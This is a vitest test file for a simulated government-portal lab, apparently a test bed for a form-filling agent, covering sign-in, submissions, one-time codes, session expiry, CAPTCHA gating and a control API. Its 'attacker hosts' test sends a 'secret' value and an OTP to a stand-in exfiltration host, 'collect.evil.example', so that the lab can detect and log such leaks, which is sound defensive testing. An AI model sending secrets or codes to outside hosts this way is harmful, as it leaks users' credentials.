import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { bindLabProfile, CONTROL_HOST, describeLab, labAccount, OTP_TTL_MS, PHONE_HOST, startLab, type Lab } from '../../lab/index';
import { PortalProfile } from '../../src/shared/portal-profile';
import { LabClient } from './support/http-client';
import { httpFillAll, httpSignIn, portalClient } from './support/http-flow';
import { loadCase, loadProfile } from './support/resources';

/** Server behaviour over plain HTTP: fast, no browser. */

let lab: Lab;
let clock = Date.parse('2026-12-02T10:00:00Z');

beforeAll(async () => {
  lab = await startLab({ now: () => clock });
});
afterAll(async () => {
  await lab?.stop();
});
beforeEach(() => {
  lab.reset();
});

describe('sign-in', () => {
  it('rejects a wrong password with an error summary and keeps the user out', async () => {
    const client = portalClient(lab, 'shops');
    const reply = await httpSignIn(client, 'asha', 'not-the-password');
    expect(reply.location).toBe('/sign-in');
    const page = await client.get('/sign-in');
    expect(page.body).toContain('role="alert"');
    expect(page.body).toContain('The username or password you entered is incorrect');
    expect(page.body).toMatch(/id="f-password"[^>]*aria-invalid="true"/);
    expect((await client.get('/')).location).toBe('/sign-in');
  });

  it('gives every client a distinct, distinctive password', () => {
    expect(labAccount('asha')).toEqual({ username: 'asha', password: 'Lab!asha-pw7' });
    expect(labAccount('asha').password).not.toBe(labAccount('ravi').password);
    expect(() => labAccount('no spaces')).toThrow();
  });
});

describe('submissions', () => {
  it('records every submission, duplicates included, each with its own number, and lists them', async () => {
    const caseFile = loadCase('tax-return-kaveri-logistics-nov-2026');
    const client = portalClient(lab, 'tax');
    await httpSignIn(client, caseFile.clientId);
    for (let i = 0; i < 2; i++) {
      await httpFillAll(client, caseFile, 'original');
      const reply = await client.post('/apply/submit', {});
      expect(reply.location).toMatch(/^\/confirmation\/PTX-\d{4}-\d{6}$/);
    }
    const records = lab.submissions({ clientId: caseFile.clientId });
    expect(records).toHaveLength(2);
    expect(records[0]!.applicationNumber).not.toBe(records[1]!.applicationNumber);
    expect(records[0]!.fields.communication_city).toBe('Bhiwandi');
    const list = await client.get('/applications');
    for (const r of records) expect(list.body).toContain(r.applicationNumber);
    expect(list.body).toContain('27551234567P / November 2026');
    expect(lab.applications(caseFile.clientId).map((a) => a.applicationNumber)).toEqual(records.map((r) => r.applicationNumber));
  });

  it('refuses to submit an application with missing answers and says which', async () => {
    const client = portalClient(lab, 'power');
    await httpSignIn(client, 'empty-power');
    await client.get('/apply/start');
    const reply = await client.post('/apply/submit', {});
    expect(reply.location).toBe('/apply/review');
    const review = await client.get('/apply/review');
    expect(review.body).toContain('Enter consumer number');
    expect(review.body).toContain('Tick the declaration to confirm it');
    expect(lab.submissions()).toHaveLength(0);
  });

  it('validates formats, lengths and the tax total on the server', async () => {
    const client = portalClient(lab, 'tax');
    await httpSignIn(client, 'checks');
    await client.get('/apply/start');
    await client.post('/apply/employer', { _action: 'next', ptrc_number: '1234', employer_name: 'x'.repeat(101), employer_pan: 'abcde1234f', return_period: 'Someday', return_type: 'Original' });
    const page = await client.get('/apply/employer');
    expect(page.body).toContain('Enter the PTRC number as 11 digits followed by P');
    expect(page.body).toContain('Employer name must be 100 characters or fewer');
    expect(page.body).toContain('Enter a PAN in the correct format');
    expect(page.body).toContain('Select return period');
    await client.post('/apply/tax', { _action: 'next', employees_not_liable: '0', employees_taxed_at_175: '2', employees_taxed_at_200: '1', tax_payable: '500' });
    expect((await client.get('/apply/tax')).body).toContain('Tax payable must equal the tax on the employee slabs (₹550)');
  });
});

describe('one-time codes', () => {
  it('asks for a code before the final submit; a wrong code fails, the right one submits', async () => {
    const caseFile = loadCase('power-name-change-fernandes');
    lab.configure(caseFile.clientId, { otp: 'submit' });
    const client = portalClient(lab, 'power');
    await httpSignIn(client, caseFile.clientId);
    await httpFillAll(client, caseFile, 'original');
    expect((await client.post('/apply/submit', {})).location).toBe('/verify');
    const verify = await client.get('/verify');
    expect(verify.body).toMatch(/<label[^>]*for="f-code"[^>]*>Verification code<\/label>/);
    expect(verify.body).toContain('autocomplete="one-time-code"');
    expect(verify.body).toContain('Verify and submit application');
    const code = lab.latestOtp(caseFile.clientId)!;
    expect(code).toMatch(/^\d{6}$/);
    await client.post('/verify', { code: code === '000000' ? '111111' : '000000' });
    expect((await client.get('/verify')).body).toContain('The verification code is incorrect');
    expect(lab.submissions()).toHaveLength(0);
    const done = await client.post('/verify', { code });
    expect(done.location).toMatch(/^\/confirmation\/PWR-/);
    expect(lab.submissions({ clientId: caseFile.clientId })).toHaveLength(1);
  });

  it('expires a sign-in code after five minutes and shows codes on the demo phone', async () => {
    lab.configure('otp-user', { otp: 'signin' });
    const client = portalClient(lab, 'shops');
    expect((await httpSignIn(client, 'otp-user')).location).toBe('/verify');
    expect((await client.get('/')).location).toBe('/verify');
    const code = lab.latestOtp('otp-user')!;
    const phone = await new LabClient(lab.port, PHONE_HOST).get('/?client=otp-user');
    expect(phone.body).toContain(code);
    clock += OTP_TTL_MS + 1000;
    await client.post('/verify', { code });
    expect((await client.get('/verify')).body).toContain('The verification code has expired');
    await client.post('/verify/resend', {});
    const fresh = lab.latestOtp('otp-user')!;
    expect((await client.post('/verify', { code: fresh })).location).toBe('/');
    expect((await client.get('/')).status).toBe(200);
  });
});

describe('session expiry', () => {
  it('expires after N authenticated requests, once per configure unless expireEvery', async () => {
    lab.configure('tired', { expireSessionAfterRequests: 3 });
    const client = portalClient(lab, 'shops');
    await httpSignIn(client, 'tired');
    for (let i = 0; i < 3; i++) expect((await client.get('/')).status).toBe(200);
    expect((await client.get('/applications')).location).toBe('/sign-in');
    expect((await client.get('/sign-in')).body).toContain('Your session has expired. Please sign in again.');
    expect((await httpSignIn(client, 'tired')).location).toBe('/applications');
    for (let i = 0; i < 6; i++) expect((await client.get('/')).status).toBe(200);

    lab.configure('tired', { expireSessionAfterRequests: 2, expireEvery: true });
    for (let round = 0; round < 2; round++) {
      expect((await client.get('/')).status).toBe(200);
      expect((await client.get('/')).status).toBe(200);
      expect((await client.get('/')).location).toBe('/sign-in');
      await httpSignIn(client, 'tired');
    }
  });

  it('expireSession ends the session now, keeps saved drafts and loses unsaved work', async () => {
    const client = portalClient(lab, 'shops');
    await httpSignIn(client, 'drafty');
    await client.get('/apply/start');
    await client.post('/apply/establishment', { _action: 'save', business_name: 'Saved Stores' });
    await client.post('/apply/business-address', { _action: 'next', business_city: 'Unsaved City' });
    lab.expireSession('drafty');
    expect((await client.get('/apply/business-address')).location).toBe('/sign-in');
    expect((await client.get('/sign-in')).body).toContain('Your session has expired');
    expect((await httpSignIn(client, 'drafty')).location).toBe('/apply/business-address');
    expect((await client.get('/')).body).toContain('Continue your saved draft');
    const resumed = await client.follow('/apply/continue');
    expect(resumed.path).toBe('/apply/establishment');
    expect(resumed.body).toContain('value="Saved Stores"');
    expect((await client.get('/apply/business-address')).body).not.toContain('Unsaved City');
  });
});

describe('captcha', () => {
  it('blocks sign-in until the CAPTCHA is solved by hand', async () => {
    lab.configure('robot', { captcha: 'signin' });
    const client = portalClient(lab, 'power');
    const page = await client.get('/sign-in');
    expect(page.body).toMatch(/<iframe title="reCAPTCHA" src="http:\/\/www\.google\.example:\d+\/recaptcha\//);
    await httpSignIn(client, 'robot');
    expect((await client.get('/sign-in')).body).toContain('Confirm that you are not a robot');
    lab.solveCaptcha('robot');
    expect((await httpSignIn(client, 'robot')).location).toBe('/');
  });

  it('shows the frame to a browser once its client is known, whatever was configured last', async () => {
    lab.configure('robot3', { captcha: 'signin' });
    lab.configure('someone-else', {});
    const client = portalClient(lab, 'shops');
    expect((await client.get('/sign-in')).body).not.toContain('title="reCAPTCHA"');
    await httpSignIn(client, 'robot3');
    const page = await client.get('/sign-in');
    expect(page.body).toContain('Confirm that you are not a robot');
    expect(page.body).toContain('title="reCAPTCHA"');
  });

  it('puts "Verify you are human" in front of the form', async () => {
    lab.configure('robot2', { captcha: 'form' });
    const client = portalClient(lab, 'tax');
    await httpSignIn(client, 'robot2');
    expect((await client.get('/apply/start')).location).toBe('/human-check');
    expect((await client.get('/human-check')).body).toContain('Verify you are human');
    expect((await client.post('/human-check', {})).location).toBe('/human-check');
    expect((await client.post('/apply/employer', { _action: 'next' })).location).toBe('/human-check');
    lab.solveCaptcha('robot2');
    expect((await client.post('/human-check', {})).location).toBe('/apply/start');
  });
});

describe('slow responses', () => {
  it('delays every portal response by slowMs', async () => {
    lab.configure('slowpoke', { slowMs: 300 });
    const client = portalClient(lab, 'shops');
    await httpSignIn(client, 'slowpoke');
    expect((await client.get('/')).ms).toBeGreaterThanOrEqual(290);
  });
});

describe('attacker hosts', () => {
  it('counts every request to a host that is not the lab’s', async () => {
    const evil = new LabClient(lab.port, 'collect.evil.example');
    expect((await evil.get('/pixel.gif?d=secret')).status).toBe(200);
    await evil.post('/drop', { otp: '123456' });
    expect(lab.attackerRequests()).toEqual([
      expect.objectContaining({ host: 'collect.evil.example', method: 'GET', path: '/pixel.gif?d=secret' }),
      expect.objectContaining({ host: 'collect.evil.example', method: 'POST', path: '/drop', body: 'otp=123456' }),
    ]);
    await portalClient(lab, 'shops').get('/sign-in');
    expect(lab.attackerRequests()).toHaveLength(2);
    expect(lab.requestLog().some((r) => r.host === 'shops.portal.example' && r.path === '/sign-in')).toBe(true);
  });
});

describe('control API', () => {
  it('needs the token, then configures, reads codes and resets', async () => {
    const anonymous = new LabClient(lab.port, CONTROL_HOST);
    expect((await anonymous.get('/api/submissions')).status).toBe(401);
    expect((await anonymous.postJson('/api/reset', {})).status).toBe(401);
    const api = new LabClient(lab.port, CONTROL_HOST, { 'x-lab-token': lab.controlToken });
    expect((await api.postJson('/api/configure/remote', { layout: 'sideways' })).status).toBe(400);
    const configured = await api.postJson('/api/configure/remote', { otp: 'signin', layout: 'redesigned' });
    expect(JSON.parse(configured.body)).toMatchObject({ otp: 'signin', layout: 'redesigned', cookieBanner: false });
    expect(lab.variant('remote').layout).toBe('redesigned');
    await httpSignIn(portalClient(lab, 'shops'), 'remote');
    expect(JSON.parse((await api.get('/api/otp/remote')).body)).toEqual({ clientId: 'remote', code: lab.latestOtp('remote') });
    expect(JSON.parse((await api.get('/api/submissions?clientId=remote')).body)).toEqual([]);
    expect((await api.postJson('/api/reset', {})).status).toBe(200);
    expect(lab.latestOtp('remote')).toBeNull();
    await expect(new LabClient(lab.port, '127.0.0.1', { 'x-lab-token': lab.controlToken }).get('/api/attacker-requests')).resolves.toMatchObject({ status: 200 });
  });
});

describe('profiles and description', () => {
  it('binds a profile to the lab port', () => {
    const bound = bindLabProfile(loadProfile('shops'), lab.port);
    expect(PortalProfile.parse(bound)).toEqual(bound);
    expect(bound.startUrl).toBe(`${lab.origin('shops')}/`);
    expect(bound.allowedHosts).toEqual([`shops.portal.example:${lab.port}`]);
    expect(bound.applicationsUrl).toBe(`${lab.origin('shops')}/applications`);
  });

  it('describes every URL', () => {
    const text = describeLab(lab);
    for (const id of ['shops', 'power', 'tax'] as const) expect(text).toContain(`${lab.origin(id)}/`);
    expect(text).toContain(lab.originOf(PHONE_HOST));
    expect(text).toContain('MAP * 127.0.0.1');
  });
});
